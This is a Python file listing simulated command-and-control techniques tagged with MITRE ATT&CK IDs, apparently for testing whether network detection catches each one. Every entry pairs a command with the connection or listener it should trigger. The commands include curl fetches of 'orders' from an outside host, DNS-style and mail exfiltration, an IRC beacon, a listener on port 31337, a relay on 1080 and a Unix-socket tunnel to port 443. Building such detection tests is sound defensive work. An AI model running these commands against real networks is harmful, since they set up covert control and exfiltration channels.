"""Talking to whoever gives orders, by all sorts of ways."""

from attacks.attack import Attack as A
from attacks.places import CONNECT, SOCKETS, WEB
from node import NEIGHBOURS, OUTSIDE

ATTACKS = [
    A("T1071.001", "orders are fetched over the web", f"curl -s {WEB}/orders?id=7", ("connect", rf"{OUTSIDE}:8080$")),
    A(
        "T1071.004",
        "data leave inside of names to look up",
        f'perl {SOCKETS} \'socket(S,PF_INET,SOCK_DGRAM,0);send(S,"data.example",0,sockaddr_in(53,inet_aton("{OUTSIDE}")))\'',
        ("connect", rf"{OUTSIDE}:53$"),
    ),
    A("T1071", "orders over IRC", f"perl {SOCKETS} '{CONNECT % 6667}syswrite S,\"NICK x\\n\"'", ("connect", r":6667$")),
    A("T1071.003", "data leave by mail", f"curl -s -m 2 smtp://{OUTSIDE}:25 >/dev/null; true", ("connect", r":25$")),
    A("T1571", "orders over a port that nobody uses", f"curl -s http://{OUTSIDE}:8088/orders", ("connect", r":8088$")),
    A(
        "T1571",
        "a shell waits at a port",
        "timeout 1 perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,0);bind(S,sockaddr_in(31337,INADDR_ANY));listen(S,1);select(undef,undef,undef,.3)'",
        ("listen", r":31337$"),
    ),
    A(
        "T1090.001",
        "a relay into the network",
        "timeout 1 python3 -c 'import socket,time; s=socket.create_server((\"0.0.0.0\",1080)); time.sleep(.3)'",
        ("listen", r":1080$"),
    ),
    A(
        "T1572",
        "a tunnel through a Unix socket",
        'python3 -c \'import socket,os; p="/tmp/.t"; l=socket.socket(socket.AF_UNIX); l.bind(p); l.listen(); c=socket.socket(socket.AF_UNIX);\n'
        f'c.connect(p); a,_=l.accept(); o=socket.create_connection(("{OUTSIDE}",443)); c.send(b"x"); o.send(a.recv(9)); os.unlink(p)\'',
        ("connect", r"(/tmp/\.t|:443)"),
    ),
    A(
        "T1095",
        "words over UDP that no protocol knows",
        f"bash -c 'echo beat >/dev/udp/{OUTSIDE}/123'",
        ("connect", rf"{OUTSIDE}:123$"),
    ),
    A(
        "T1102.001",
        "a place on the web tells where to go",
        f"timeout 2 curl -s -m 1 http://{NEIGHBOURS}.80/paste/7; true",
        ("connect", rf"{NEIGHBOURS}\.80:80$"),
    ),
]
